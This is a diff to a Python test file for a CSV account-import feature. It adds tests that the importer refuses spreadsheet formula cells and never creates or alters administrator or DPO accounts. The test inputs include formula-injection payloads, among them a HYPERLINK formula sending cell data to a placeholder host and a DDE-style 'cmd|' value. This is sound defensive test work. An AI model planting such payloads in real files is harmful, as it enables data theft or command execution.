@@ -5,6 +5,7 @@ import time
 import pytest
 from sqlalchemy import func, select
 
+from shared.domain import users
 from shared.domain.account_import import import_csv
 from shared.models import AuditEvent, Circonscription, Member, Structure, User
 from tests.factories import reference_data
@@ -138,7 +139,8 @@ def test_utf16_without_its_mark_is_refused(db_session, vault, places):
 
 
 @pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.invalid/?"&A1;"Cliquez")',
-                                  "+33 1 23", "-2+3", "@SUM(A1)", " =1+1", "\t=1"])
+                                  "+33 1 23", "-2+3", "@SUM(A1)", " =1+1", "\t=1",
+                                  "\u00a0=HYPERLINK(1)", "\uff1dcmd|x", "\n+1"])
 def test_spreadsheet_formulas_are_refused_with_line_and_column(db_session, vault, places,
                                                                cell):
     quoted = '"' + cell.replace('"', '""') + '"'
@@ -173,3 +175,23 @@ def test_ten_thousand_lines_are_checked_and_imported_in_a_few_seconds(db_session
     # PostgreSQL: 0.4 s and 4.3 s.
     print(f"10,000 rows: dry run {checked - started:.2f} s, import {done - checked:.2f} s")
     assert done - started < 10
+
+
+def test_an_import_never_makes_or_changes_an_administrator_or_dpo_account(db_session, vault,
+                                                                        places):
+    # A file, or an API client allowed to import, would otherwise make its own administrator
+    for role in ("administration", "admin", "dpo"):
+        report = _run(db_session, vault, "comptes",
+                      ACCOUNTS.split("\n", 1)[0] + f"\nx@test.invalid;X;{role};;;;;;\n")
+        assert report.errors == ["Ligne 2 : colonne « role » : attendu referent, animation ou "
+                                 "direction (les comptes d'administration et de DPO se créent "
+                                 "un par un, sur leur page)."]
+    admin = users.create_user(db_session, email="chef@test.invalid", full_name="Chef",
+                              password="mot-de-passe-solide-2026", role=users.RoleSpec("admin"))
+    db_session.commit()
+    report = _run(db_session, vault, "comptes", ACCOUNTS.split("\n", 1)[0]
+                  + "\nchef@test.invalid;Chef;referent;ALI de Saint-Denis;;;;;01/01/2020\n")
+    assert report.errors == ["Ligne 2 : ce compte est un compte d'administration ou de DPO : "
+                             "il se modifie sur sa page, jamais par un import."]
+    db_session.refresh(admin)
+    assert [r.role for r in admin.roles] == ["admin"] and admin.habilitation_ends_on is None
